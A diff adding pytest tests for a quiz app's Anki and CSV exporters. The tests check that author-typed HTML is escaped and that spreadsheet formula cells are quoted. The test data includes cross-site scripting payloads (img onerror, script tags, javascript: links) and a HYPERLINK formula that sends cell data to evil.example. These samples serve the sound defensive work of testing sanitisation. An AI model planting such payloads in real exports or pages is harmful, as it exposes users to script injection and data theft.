@@ -6,7 +6,7 @@ import zipfile
 import pytest
 
 from quizzes.course_files import read_course_dir, write_course_dir
-from quizzes.exporters import course_to_csv, course_to_data, export_apkg
+from quizzes.exporters import course_to_csv, course_to_data, csv_cell, export_apkg
 from quizzes.models import Card
 from quizzes.services import load_course_data
 from tests.conftest import CONTENT
@@ -87,3 +87,71 @@ def test_export_command_names_unknown_courses(db, tmp_path):
 
     with pytest.raises(CommandError, match="unknown course 'nope'"):
         call_command("export_course", "nope", "--out", str(tmp_path / "c"))
+
+
+def _apkg_fields(course, tmp_path) -> list[str]:
+    path = tmp_path / "deck.apkg"
+    export_apkg(course, path)
+    with zipfile.ZipFile(path) as z:
+        z.extract("collection.anki2", tmp_path)
+    db = sqlite3.connect(tmp_path / "collection.anki2")
+    try:
+        return [field for (flds,) in db.execute("select flds from notes") for field in flds.split("\x1f")]
+    finally:
+        db.close()
+
+
+def test_no_field_of_the_anki_deck_carries_markup_an_author_typed(shipped_course, tmp_path):
+    numeric = shipped_course.cards.filter(kind="numeric").first()
+    numeric.unit = '<img src=x onerror="alert(1)">'
+    numeric.save()
+    interview = shipped_course.cards.filter(kind="interview").first()
+    interview.key_points = ['<script>alert("kp")</script>', "<b onclick=x()>bold</b>"]
+    interview.common_wrong_answer = '<a href="javascript:alert(2)">wrong</a>'
+    interview.save()
+    fields = _apkg_fields(shipped_course, tmp_path)
+    tags = tags_in("\n".join(fields))
+    assert not [t for t, _ in tags if t in ("img", "script")]
+    assert not [(t, a) for t, attrs in tags for a, v in attrs if a.startswith("on") or "javascript:" in (v or "")]
+    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in fields
+
+
+def tags_in(markup: str) -> list[tuple[str, list]]:
+    from html.parser import HTMLParser
+
+    found = []
+
+    class Collect(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            found.append((tag, attrs))
+
+    Collect().feed(markup)
+    return found
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_are_quoted(shipped_course, start):
+    card = shipped_course.cards.filter(kind="numeric").first()
+    card.prompt = f'{start}HYPERLINK("http://evil.example/?"&A1, "click")'
+    card.unit = f"{start}1+1"
+    card.save()
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(course_to_csv(shipped_course)))}
+    assert rows[card.slug]["prompt"] == "'" + card.prompt
+    assert rows[card.slug]["unit"] == "'" + card.unit
+    assert not any(
+        value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows.values() for value in row.values()
+    )
+
+
+@pytest.mark.parametrize("value", ["\t=1+1", "\r=1+1", "=1+1", "-2+3", "+2", "@SUM(A1)"])
+def test_a_cell_starting_with_a_tab_or_carriage_return_is_quoted_too(value):
+    assert csv_cell(value) == "'" + value
+    assert csv_cell("1+1") == "1+1" and csv_cell(-3.5) == -3.5
+
+
+def test_csv_numbers_stay_numbers_even_when_negative(shipped_course):
+    card = shipped_course.cards.filter(kind="numeric").first()
+    card.numeric_answer = -3.5
+    card.save()
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(course_to_csv(shipped_course)))}
+    assert float(rows[card.slug]["numeric_answer"]) == -3.5
